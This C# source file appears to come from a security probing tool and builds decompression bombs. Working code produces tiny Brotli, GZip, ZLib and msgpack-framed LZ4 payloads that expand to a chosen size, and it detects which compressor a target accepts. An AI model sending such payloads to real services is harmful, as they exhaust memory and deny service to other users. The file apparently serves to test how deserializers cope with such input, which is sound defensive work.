using System.IO.Compression;

namespace Goldilocks.Prober.Attacks;

/// <summary>A compressor that a payload may be written with, and what a bomb in its format looks like.</summary>
/// <param name="Name">As its users call it.</param>
/// <param name="IsUsedFor">True for a payload that it wrote.</param>
/// <param name="Bomb">Makes a payload that becomes so many bytes.</param>
internal sealed record CompressionBomb(string Name, Func<byte[], bool> IsUsedFor, Func<int, byte[]> Bomb)
{
    private const int ChunkBytes = 1 << 16;
    private const byte Lz4Block = 99;
    private const byte Lz4BlockArray = 98;

    /// <summary>The compressors of the runtime, and LZ4 as msgpack frames it.</summary>
    public static IReadOnlyList<CompressionBomb> All { get; } =
    [
        new("Brotli", payload => Decompresses(payload, source => new BrotliStream(source, CompressionMode.Decompress)), bytes => Compressed(bytes, target => new BrotliStream(target, CompressionLevel.Fastest))),
        new("GZip", payload => Decompresses(payload, source => new GZipStream(source, CompressionMode.Decompress)), bytes => Compressed(bytes, target => new GZipStream(target, CompressionLevel.Fastest))),
        new("ZLib", payload => Decompresses(payload, source => new ZLibStream(source, CompressionMode.Decompress)), bytes => Compressed(bytes, target => new ZLibStream(target, CompressionLevel.Fastest))),
        new("LZ4 in one block", payload => ExtensionType(payload) == Lz4Block, bytes => OneBlock(Lz4Zeros(bytes), bytes)),
        new("LZ4 in blocks", payload => payload.Length > 3 && payload[0] is > 0x90 and <= 0x9F && ExtensionType(payload.AsSpan(1)) == Lz4BlockArray, bytes => Blocks(Lz4Zeros(bytes), bytes)),
    ];

    private static bool Decompresses(byte[] payload, Func<Stream, Stream> open)
    {
        try
        {
            using var source = open(new MemoryStream(payload));
            using var content = new MemoryStream();
            source.CopyTo(content);
            return content.Length > 0;
        }
        catch (Exception exception) when (exception is InvalidDataException or InvalidOperationException or IOException)
        {
            return false;
        }
    }

    private static byte[] Compressed(int bytes, Func<Stream, Stream> open)
    {
        using var target = new MemoryStream();
        using (var compressor = open(target))
        {
            var zeros = new byte[ChunkBytes];
            for (var written = 0; written < bytes; written += ChunkBytes)
            {
                compressor.Write(zeros);
            }
        }

        return target.ToArray();
    }

    /// <summary>The type of a payload that is an extension of msgpack; null for any other one.</summary>
    private static byte? ExtensionType(ReadOnlySpan<byte> payload) => payload switch
    {
        [0xC7, _, var type, ..] => type,
        [0xC8, _, _, var type, ..] => type,
        [0xC9, _, _, _, _, var type, ..] => type,
        [>= 0xD4 and <= 0xD8, var type, ..] => type,
        _ => null,
    };

    /// <summary>
    /// A block of LZ4 that repeats one zero: a literal, a match at offset 1 whose length goes on in bytes of 255, and five literals as the format asks for at the end.
    /// </summary>
    private static byte[] Lz4Zeros(int bytes)
    {
        const int LastLiterals = 5;
        const int ShortestMatch = 4;
        const int InToken = 15;
        var match = bytes - 1 - LastLiterals - ShortestMatch - InToken;
        return [0x1F, 0x00, 0x01, 0x00, .. Enumerable.Repeat(byte.MaxValue, match / byte.MaxValue), (byte)(match % byte.MaxValue), LastLiterals << 4, .. new byte[LastLiterals]];
    }

    private static byte[] OneBlock(byte[] block, int bytes) => [0xC9, .. FixedNumber.Int32BigEndian(block.Length + 5), Lz4Block, 0xD2, .. FixedNumber.Int32BigEndian(bytes), .. block];

    private static byte[] Blocks(byte[] block, int bytes) => [0x92, 0xC7, 0x05, Lz4BlockArray, 0xD2, .. FixedNumber.Int32BigEndian(bytes), 0xC6, .. FixedNumber.Int32BigEndian(block.Length), .. block];
}
